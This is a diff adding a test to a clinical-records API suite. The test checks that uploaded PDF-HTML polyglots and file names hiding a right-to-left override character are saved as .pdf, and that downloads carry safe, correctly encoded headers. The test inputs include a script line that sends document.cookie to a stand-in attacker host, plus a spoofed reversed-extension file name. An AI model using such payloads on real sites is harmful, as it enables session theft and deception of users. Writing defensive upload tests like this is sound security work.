@@ -124,6 +124,34 @@ describe('clinical records: report date, storage quota, access first', () => {
     const log = (await t.http.get('/api/v1/users/me/access-log').set(holder.auth).expect(200)).body.entries as Array<{ what: { resource: string } }>;
     assert.ok(log.some((e) => e.what.resource === 'clinical_records'));
   });
+  it('a polyglot is saved under the extension of what its content is, and invisible format characters leave file names: never a PDF-HTML saved as .html, nor a name that reads backwards', async () => {
+    const polyglot = Buffer.concat([PDF, Buffer.from('<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>')]);
+    const stored = await t.http
+      .post('/api/v1/records/reports')
+      .set(patient.auth)
+      .field('report_type', 'lab')
+      .field('report_date', indiaDate(0))
+      .attach('files', polyglot, { filename: 'lab-report.html', contentType: 'text/html' })
+      .attach('files', PDF, { filename: 'scan\u202Egnp.html', contentType: 'image/png' })
+      .attach('files', PDF, { filename: "it's (final) *v2*.pdf", contentType: 'application/pdf' })
+      .attach('files', PDF, { filename: 'रिपोर्ट.pdf', contentType: 'application/pdf' })
+      .expect(201);
+    assert.deepEqual(stored.body.files.map((f: { file_name: string }) => f.file_name), ['lab-report.pdf', 'scangnp.pdf', "it's (final) *v2*.pdf", 'रिपोर्ट.pdf'], 'names sent as UTF-8 (as browsers do) read as such');
+    await t.settle();
+    const listed = (await t.http.get('/api/v1/records/me').set(patient.auth).expect(200)).body.reports[0].files as Array<{ file_name: string; download_url: string }>;
+    assert.deepEqual(listed.map((f) => f.file_name), ['lab-report.pdf', 'scangnp.pdf', "it's (final) *v2*.pdf", 'रिपोर्ट.pdf']);
+    const saved = async (url: string) => {
+      const res = await t.http.get(url).set(patient.auth).expect(200);
+      assert.equal(res.headers['content-type'], 'application/pdf');
+      assert.equal(res.headers['x-content-type-options'], 'nosniff');
+      return res.headers['content-disposition'] as string;
+    };
+    assert.equal(await saved(listed[0]!.download_url), `attachment; filename="lab-report.pdf"; filename*=UTF-8''lab-report.pdf`);
+    assert.equal(await saved(listed[1]!.download_url), `attachment; filename="scangnp.pdf"; filename*=UTF-8''scangnp.pdf`);
+    // RFC 8187's value has no quote, parenthesis or star unencoded (a quote there ends the charset's part for some parsers).
+    assert.equal(await saved(listed[2]!.download_url), `attachment; filename="it's (final) *v2*.pdf"; filename*=UTF-8''it%27s%20%28final%29%20%2Av2%2A.pdf`);
+    assert.equal(await saved(listed[3]!.download_url), `attachment; filename="_______.pdf"; filename*=UTF-8''${encodeURIComponent('रिपोर्ट.pdf')}`);
+  });
 });
 
 describe('clinical records: the per-patient storage quota (RECORDS_QUOTA_MB)', () => {
